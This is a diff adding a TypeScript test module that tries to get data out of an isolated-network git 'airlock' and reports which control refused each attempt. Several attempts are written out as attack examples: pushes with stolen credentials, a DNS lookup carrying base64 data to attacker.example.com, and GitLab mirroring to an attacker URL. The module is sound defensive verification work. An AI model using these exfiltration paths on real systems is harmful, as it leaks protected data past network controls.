@@ -1,0 +1,187 @@
+/** Attempts to get data out, or in by another way, each a real request; and what refused it. */
+import { join } from "node:path";
+import type { Position } from "./git/gitClient";
+import { Blocked } from "./sourceNetwork";
+import type { Stage } from "./stage";
+
+/** What became of an attempt. */
+export interface Escape {
+  attempt: string;
+  refused: boolean;
+  /** The statement or rule that refused it; or what let it through. */
+  by: string;
+  /** Set where this configuration is known to leave the way open: the claim, and what closes it. */
+  knownGap?: string;
+}
+
+interface Attempt {
+  attempt: string;
+  /** True if the attempt was refused. */
+  run: () => Promise<boolean>;
+  knownGap?: string;
+}
+
+/** Runs every attempt, in order, and reports each as it ends. */
+export async function tryToEscape(stage: Stage, onEscape: (escape: Escape) => void): Promise<Escape[]> {
+  const escapes: Escape[] = [];
+  for (const { attempt, run, knownGap } of attempts(stage, await makeLoot(stage))) {
+    const heard = listen(stage);
+    const failed = await run();
+    const escape = { attempt, ...judge(failed, heard()), ...(knownGap !== undefined && { knownGap }) };
+    onEscape(escape);
+    escapes.push(escape);
+  }
+  return escapes;
+}
+
+/** Refused is only what something of the deployment refused: an attempt that failed by itself has shown nothing. */
+function judge(failed: boolean, { leak, refusal }: Heard): Pick<Escape, "refused" | "by"> {
+  if (leak !== undefined) return { refused: false, by: `the connection left, from ${leak}` };
+  if (!failed) return { refused: false, by: "nothing refused it" };
+  if (refusal === undefined) return { refused: false, by: "it failed, but nothing refused it" };
+  return { refused: true, by: refusal };
+}
+
+interface Heard {
+  leak: string | undefined;
+  refusal: string | undefined;
+}
+
+/** Remembers where every log stands; the function it returns gives what was last written since. */
+function listen(stage: Stage): () => Heard {
+  const { codeCommit, proxy, workTerminal, gitlabHost, isolatedTerminal, outside, leaks } = stage;
+  const logs = [
+    () => codeCommit.audit.filter(({ allowed }) => !allowed).map(({ reason }) => reason),
+    ...[workTerminal, gitlabHost, isolatedTerminal, outside].map(
+      (position) => () => position.path.refusals.map(({ reason }) => reason),
+    ),
+    () => proxy?.refusals.map(({ reason }) => reason) ?? [],
+  ];
+  const before = logs.map((log) => log().length);
+  const leaksBefore = leaks.length;
+  return () => ({
+    leak: leaks.slice(leaksBefore).at(-1),
+    refusal: logs.flatMap((log, i) => log().slice(before[i])).at(-1),
+  });
+}
+
+/** A repository with one commit at the isolated terminal: what must not get out. */
+async function makeLoot({ isolatedTerminal }: Stage): Promise<string> {
+  const cwd = join(isolatedTerminal.home, "loot");
+  const author = ["-c", "user.name=insider", "-c", "user.email=insider@isolated.invalid"];
+  const commands = [
+    ["init", "--quiet", cwd],
+    ["-C", cwd, ...author, "commit", "--quiet", "--allow-empty", "--message", "personal data"],
+  ];
+  for (const command of commands) {
+    const { code, stderr } = await isolatedTerminal.git(command);
+    if (code !== 0) throw new Error(`cannot make a repository to carry out: ${stderr}`);
+  }
+  return cwd;
+}
+
+function attempts(stage: Stage, loot: string): Attempt[] {
+  const { isolatedTerminal, outside, workTerminal, gitlabHost, isolatedZone, stranger, codeCommit, gitlab } =
+    stage;
+  const { pullCredential, pushCredential, airlock } = stage;
+  const strangersUrl = `https://${codeCommit.hostname}/v1/repos/${stranger.repositoryName}`;
+  const gitlabUrl = `https://${gitlab.hostname}/${airlock.gitlabProject}.git`;
+  const push = (position: Position, url: string, credential: typeof pullCredential) => async () => {
+    const result = await position.git(["push", "--quiet", url, "HEAD:refs/heads/loot"], {
+      cwd: loot,
+      credential,
+    });
+    return result.code !== 0;
+  };
+  const pull = (position: Position, url: string, credential: typeof pullCredential) => async () =>
+    (await position.git(["ls-remote", url], { credential })).code !== 0;
+  const strangersGap = isolatedZone.hasEndpoint
+    ? undefined
+    : "C5 stays open in addresses mode: one hostname serves every AWS account. Pull through an endpoint to close it.";
+  const noProxyGap = stage.proxy
+    ? undefined
+    : "C7 is refuted without a proxy: nothing limits where GitLab goes. Set git-airlock:proxy's mode to managed.";
+
+  return [
+    {
+      attempt: "An isolated terminal pushes with the pull credential",
+      run: push(isolatedTerminal, airlock.cloneUrlHttp, pullCredential),
+    },
+    {
+      attempt: "An isolated terminal pushes with the push credential, stolen",
+      run: push(isolatedTerminal, airlock.cloneUrlHttp, pushCredential),
+    },
+    {
+      attempt: "An isolated terminal pushes to a stranger's AWS account, with the stranger's credential",
+      run: push(isolatedTerminal, strangersUrl, stranger.credential),
+      knownGap: strangersGap,
+    },
+    {
+      attempt: "An isolated terminal fetches from a stranger's AWS account",
+      run: pull(isolatedTerminal, strangersUrl, stranger.credential),
+      knownGap: strangersGap,
+    },
+    {
+      attempt: "An isolated terminal pushes to GitLab, with a developer's password",
+      run: push(isolatedTerminal, gitlabUrl, stage.developer),
+    },
+    {
+      attempt: "An isolated terminal carries data out in a DNS name",
+      run: () =>
+        refusedBy(isolatedTerminal, () => {
+          isolatedZone.lookUp("cGVyc29uYWwgZGF0YQ.attacker.example.com");
+          isolatedZone.leave();
+        }),
+    },
+    {
+      attempt: "Somebody outside pushes with the push credential, stolen",
+      run: push(outside, airlock.cloneUrlHttp, pushCredential),
+    },
+    {
+      attempt: "Somebody outside pulls with the pull credential, stolen",
+      run: pull(outside, airlock.cloneUrlHttp, pullCredential),
+    },
+    {
+      attempt: "A work terminal pulls with the pull credential",
+      run: pull(workTerminal, airlock.cloneUrlHttp, pullCredential),
+    },
+    {
+      attempt: "Somebody outside knocks at GitLab",
+      run: pull(outside, gitlabUrl, stage.developer),
+    },
+    {
+      attempt: "GitLab mirrors to another host, as a hostile maintainer would have it",
+      run: () => mirrorElsewhere(stage, "https://attacker.example.com/loot.git"),
+      knownGap: noProxyGap,
+    },
+    {
+      attempt: "GitLab goes around the proxy",
+      run: pull(gitlabHost, "https://attacker.example.com/loot.git", pushCredential),
+      knownGap: noProxyGap,
+    },
+  ];
+}
+
+async function mirrorElsewhere({ gitlab, pushCredential }: Stage, url: string): Promise<boolean> {
+  const project = "hostile/exfiltration";
+  await gitlab.createProject(project);
+  gitlab.setMirror(project, {
+    ...pushCredential,
+    url,
+    keepDivergentRefs: true,
+    onlyProtectedBranches: false,
+  });
+  return (await gitlab.syncMirror(project)).updateStatus !== "finished";
+}
+
+/** For what needs no git: whether the way is blocked, written into the position's log like any other refusal. */
+function refusedBy(position: Position, way: () => void): Promise<boolean> {
+  try {
+    way();
+    return Promise.resolve(false);
+  } catch (error) {
+    if (!(error instanceof Blocked)) throw error;
+    position.path.refusals.push({ target: "DNS", reason: error.message });
+    return Promise.resolve(true);
+  }
+}
